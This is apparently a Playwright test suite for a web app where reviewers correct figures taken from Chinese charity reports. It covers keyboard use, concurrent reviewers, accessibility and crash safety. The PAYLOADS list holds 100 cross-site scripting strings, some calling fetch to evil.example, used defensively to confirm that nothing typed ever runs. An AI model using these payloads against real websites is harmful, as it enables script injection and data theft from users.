"""The review page in a browser: a newcomer's whole way, by mouse and by keyboard; two reviewers; what is typed stays text."""

from __future__ import annotations

import zipfile
from typing import TYPE_CHECKING, Any

import kill_review
import openpyxl
import pytest
from conftest import ROOT
from review_app import TEXT, kept, made, served

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

    Open = Callable[..., Page]

WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 390, "height": 844}
AXE = ROOT / ".cache/node_modules/axe-core/axe.min.js"
PAYLOADS = tuple(
    shape.replace("CALL", call)
    for call in ("alert(1)", "window.run=1", "fetch('//evil.example')", "document.title='x'")
    for shape in (
        "<script>CALL</script>",
        '<img src=x onerror="CALL">',
        '<svg onload="CALL">',
        '"><script>CALL</script>',
        "' onfocus='CALL' autofocus='",
        "</textarea><script>CALL</script>",
        "</title><script>CALL</script>",
        '<a href="javascript:CALL">甲</a>',
        '<iframe srcdoc="<script>CALL</script>">',
        '<div hx-get="/" hx-trigger="load" hx-on::load="CALL">',
        '<form action="javascript:CALL"><button autofocus>',
        "{{constructor.constructor('CALL')()}}",
        '<math><mi xlink:href="javascript:CALL">',
        "<style>@import 'javascript:CALL';</style>",
        '<meta http-equiv="refresh" content="0;url=javascript:CALL">',
        '<base href="//evil.example/"><script>CALL</script>',
        '<details open ontoggle="CALL">',
        '<video><source onerror="CALL"></video>',
        '<object data="javascript:CALL">',
        "<template><script>CALL</script></template>",
        "<!--><script>CALL</script>-->",
        '<xss style="animation-name:x" onanimationstart="CALL">',
        "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
        "&lt;script&gt;CALL&lt;/script&gt;<script>CALL</script>",
        "＜script＞CALL＜/script＞<script>CALL</script>",
    )
)


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """Make a run to review."""
    return made(tmp_path)


@pytest.fixture
def site(tmp_path: Path, run: Path) -> Iterator[str]:
    """Serve the review of it."""
    with served(tmp_path / "store", run) as address:
        yield address


@pytest.fixture
def opened(browser: Browser) -> Iterator[Open]:
    """Open a page as a reviewer; whatever it runs into is an error of the test."""
    contexts = []
    wrong: list[str] = []

    def open_(address: str, name: str = "", size: Any = None, locale: str = "en-GB") -> Page:
        context = browser.new_context(viewport=size or WIDE, locale=locale, accept_downloads=True)
        contexts.append(context)
        context.set_default_timeout(60_000)
        page = context.new_page()
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("dialog", lambda dialog: wrong.append(dialog.message))
        page.on("request", lambda request: None if request.url.startswith(address) else wrong.append(request.url))
        if name:
            page.goto(f"{address}/review/run")
            page.fill("#name", name)
            page.keyboard.press("Enter")
            page.wait_for_selector("#desk")
            page.wait_for_load_state("domcontentloaded")  # the desk stands before its scripts, and keys are theirs
        return page

    yield open_
    for one in contexts:
        one.close()
    assert wrong == []


def done(output: Path) -> list[tuple[str, str]]:
    """Give who did what, as it is on the disk."""
    return [(one["by"], one["action"]) for one in kept(output)]


def now(page: Page) -> str:
    """Give the figure that the page is about."""
    return page.inner_text(".figure .big")


def state(page: Page, word: str) -> None:
    """Wait until the figure is in a state."""
    page.wait_for_selector(f".figure dd .tag:text-is('{word}')")


def select(page: Page, words: str) -> None:
    """Select characters of the report as a mouse does."""
    page.evaluate(
        """words => {
            for (const piece of document.querySelectorAll('#text [data-start]:not(p)')) {
                const at = piece.textContent.indexOf(words);
                if (at < 0) continue;
                const range = document.createRange();
                range.setStart(piece.firstChild, at);
                range.setEnd(piece.firstChild, at + words.length);
                window.getSelection().removeAllRanges();
                window.getSelection().addRange(range);
            }
        }""",
        words,
    )


def figures(book: Path) -> dict[str, dict[str, Any]]:
    """Give the rows of 明细 by their text."""
    workbook = openpyxl.load_workbook(book)
    sheet = workbook["Figures"] if "Figures" in workbook.sheetnames else workbook["明细"]
    heads = [cell.value for cell in sheet[1]]
    rows = [dict(zip(heads, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]
    return {str(row.get("text", row.get("原文"))): row for row in rows}


def test_the_whole_way_of_a_newcomer(tmp_path: Path, opened: Open) -> None:
    """Upload a zip, watch it, open a flagged figure, fix it, add a missed one, undo, export: nothing but a browser."""
    archive = tmp_path / "报送.zip"
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("青禾.txt", TEXT)
        file.writestr("白石.txt", "白石县红十字会2023年工作总结\n救助困难群众XX人。\n")
    with served(tmp_path / "store") as address:
        page = opened(address)
        page.goto(address)
        page.click("text=Upload reports")
        page.set_input_files("#files", archive)
        page.click("button:has-text('Upload and read')")
        page.wait_for_url("**/jobs/*")
        page.click("text=Review its figures")
        page.fill("#name", "李四")
        page.click("button:has-text('Begin')")
        page.click(".queue a:has-text('XX万元')")
        page.wait_for_selector(".big:has-text('XX万元')")
        assert page.input_value("#box-unit") == "万元"
        page.fill("#box-value", "12.5")
        page.click("button:has-text('Save correction')")
        state(page, "corrected")
        select(page, "48灶")
        page.click("text=Add a figure")
        page.wait_for_selector("#box-quote")
        assert "【48灶】" in page.input_value("#box-quote")
        assert (page.input_value("#box-value"), page.input_value("#box-unit")) == ("48", "灶")
        page.fill("#box-item", "节能灶")
        page.click(".figure button:has-text('Add a figure')")
        state(page, "added")
        assert now(page) == "48灶"
        page.click("#text a.fig:has-text('109人')")
        page.wait_for_selector(".big:has-text('109人')")
        page.click("button:has-text('No figure')")
        state(page, "rejected")
        page.click("button:has-text('Undo')")
        page.wait_for_selector(".history li:nth-child(2)")
        with page.expect_download() as download:
            page.click("text=Export the workbook")
        book = tmp_path / "geprüft.xlsx"
        download.value.save_as(book)
    found = figures(book)
    assert (found["XX万元"]["value"], found["XX万元"]["reviewed_value"]) == (None, 125000)
    assert (found["48灶"]["review"], found["48灶"]["reviewed_item"]) == ("added", "节能灶")
    assert found["109人"]["review"] is None
    assert found["XX万元"]["reviewer"] == "李四"


def test_the_same_by_keyboard_only(tmp_path: Path, run: Path, site: str, opened: Open) -> None:
    """Every step has a key; what is typed into a box is no key."""
    page = opened(site, "李四")
    press = page.keyboard.press
    assert now(page) == "XX万元"
    press("e")
    page.keyboard.type("12.5")  # 万元 stands beside it
    press("Enter")
    state(page, "corrected")
    press("j")
    page.wait_for_selector(".big:has-text('50%')")
    press("k")
    page.wait_for_selector(".queue")
    press("j")
    press("n")
    page.keyboard.type("jkaru?")
    press("Escape")
    assert page.input_value("#box-note") == "jkaru?"
    press("r")
    state(page, "rejected")
    press("u")
    page.wait_for_selector(".history li:nth-child(2)")
    press("a")
    state(page, "accepted")
    press("s")
    page.wait_for_selector("#box-quote:focus")
    page.keyboard.type("新砌【48灶】节能灶")
    press("Tab")
    page.keyboard.type("48")
    press("Tab")
    page.keyboard.type("灶")
    press("Enter")
    state(page, "added")
    press("?")
    page.wait_for_selector("dialog[open]")
    press("Escape")
    page.wait_for_selector("dialog[open]", state="detached")
    with page.expect_download() as download:
        page.focus("text=Export the workbook")
        press("Enter")
    download.value.save_as(tmp_path / "out.xlsx")
    assert {"XX万元", "48灶", "50%"} <= set(figures(tmp_path / "out.xlsx"))
    assert [action for _, action in done(run)] == ["correct", "reject", "undo", "accept", "add"]


def test_two_reviewers_of_one_figure(run: Path, site: str, opened: Open) -> None:
    """The second one is told what the first one did, keeps what was typed, and may go on from there."""
    first, second = opened(site, "张三"), opened(site, "李四")
    for page in (first, second):
        page.click(".shows a:has-text('All')")
        page.click(".queue a:has-text('109人')")
        page.wait_for_selector(".big:has-text('109人')")
    first.keyboard.press("a")
    state(first, "accepted")
    second.fill("#box-value", "110")
    second.click("button:has-text('Save correction')")
    alert = second.wait_for_selector("[role=alert]")
    assert alert is not None
    assert "张三 has just changed this figure" in alert.inner_text()
    assert second.input_value("#box-value") == "110"
    state(second, "accepted")
    assert done(run) == [("张三", "accept")]
    second.click("button:has-text('Save correction')")
    state(second, "corrected")
    assert done(run) == [("张三", "accept"), ("李四", "correct")]


def test_it_works_without_scripts(browser: Browser, run: Path, site: str) -> None:
    """Forms and links are enough; only selecting and uploading need more."""
    context = browser.new_context(java_script_enabled=False, locale="zh-CN")
    page = context.new_page()
    page.goto(f"{site}/review/run")
    page.fill("#name", "李四")
    page.click("button")
    page.fill("#box-value", "12.5")
    page.click("button:has-text('保存更正')")
    page.click("a:has-text('补录数字')")
    page.fill("#box-quote", "新砌【48灶】节能灶")
    page.fill("#box-value", "48")
    page.fill("#box-unit", "灶")
    page.click(".figure button:has-text('补录数字')")
    page.wait_for_selector(".tag:text-is('补录')")
    context.close()
    assert done(run) == [("李四", "correct"), ("李四", "add")]


def test_nothing_that_is_written_runs(tmp_path: Path, opened: Open) -> None:
    """A hundred payloads in a report, names, notes, items and addresses: none runs, nothing is asked for outside."""
    assert len(PAYLOADS) == 100
    folder = tmp_path / "xss"
    folder.mkdir()
    head = "青禾县红十字会2023年工作总结。" * 200  # so that it is read as a text
    output = made(folder, head + "\n" + "".join(f"{payload}捐款XX万元。\n" for payload in PAYLOADS))
    with served(tmp_path / "store", output) as address:
        page = opened(address, PAYLOADS[0])
        page.wait_for_selector("#text")
        for number in range(0, 100, 10):  # ten in each field of ten corrections
            some = PAYLOADS[number : number + 10]
            page.fill("#box-item", some[0][:200])
            page.fill("#box-unit", some[1][:200])
            page.select_option("#box-kind", "count")  # of a sum, no such unit is taken
            page.fill("#box-value", "1")
            page.fill("#box-note", "\n".join(some))
            page.click("button:has-text('Save correction')")
            state(page, "corrected")
            page.click("a[rel=next]")
            page.wait_for_selector(".figure dd .tag", state="detached")
        for payload in PAYLOADS[::10]:
            page.goto(f"{address}/review/run?show={payload.replace('#', '%23').replace('&', '%26')}")
            page.goto(f"{address}/reviewer?next={payload.replace('#', '%23').replace('&', '%26')}")
        page.goto(f"{address}/review/run?show=done")
        page.wait_for_selector("#text")
        assert page.evaluate("[window.run, document.title === 'x']") == [None, False]
        shown = page.inner_text("#text")
        assert "<script>alert(1)</script>" in shown
    assert len(done(output)) == 10


def test_offsets_count_characters(tmp_path: Path, opened: Open) -> None:
    """Characters beyond the first plane, line ends of two, and figures in several pieces stand before the selection."""
    output = made(tmp_path, "𠮷😀县红十字会2023年工作总结\r\n惠及109人，𠀀𠀁新砌48灶节能灶。\r\n又砌30灶暖炕。\r\n")
    with served(tmp_path / "store", output) as address:
        page = opened(address, "李四")
        page.click(".shows a:has-text('All')")
        page.wait_for_selector(".shows [aria-current='true']:has-text('All')")
        select(page, "30灶")
        page.keyboard.press("s")
        page.wait_for_selector("#box-quote")
        assert "又砌【30灶】暖炕" in page.input_value("#box-quote")
        page.click(".figure button:has-text('Add a figure')")
        state(page, "added")
        assert now(page) == "30灶"


def test_a_killed_server_loses_nothing_that_it_confirmed(tmp_path: Path) -> None:
    """Three rounds of tests/kill_review.py; each begins on what the one before it left."""
    output = made(tmp_path, kill_review.TEXT)
    assert all(kill_review.one_round(tmp_path, output, number, 0.05 * number) for number in range(3))


@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["1280", "390"])
@pytest.mark.parametrize("locale", ["zh-CN", "en-GB"])
def test_axe_finds_nothing_serious(site: str, opened: Open, size: Any, locale: str) -> None:
    """WCAG 2.1 A and AA, by axe-core, in each view; and nothing is wider than the screen."""
    assert AXE.is_file(), f"make {AXE.relative_to(ROOT)}"
    page = opened(site, "李四", size, locale)
    found = []
    for view in ("/review/run", "/review/run?row=1&add=1", "keys", "/upload", "/reviewer", "/"):
        if view == "keys":
            page.goto(f"{site}/review/run")
            page.keyboard.press("a")
            page.wait_for_selector(".history")
            page.keyboard.press("?")
        else:
            page.goto(site + view)
        page.evaluate(AXE.read_text(encoding="utf-8"))
        result = page.evaluate("axe.run({ runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] })")
        assert len(result["passes"]) > 5
        found += [(view, v["id"], v["nodes"][0]["html"]) for v in result["violations"]]
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), view
    assert found == []
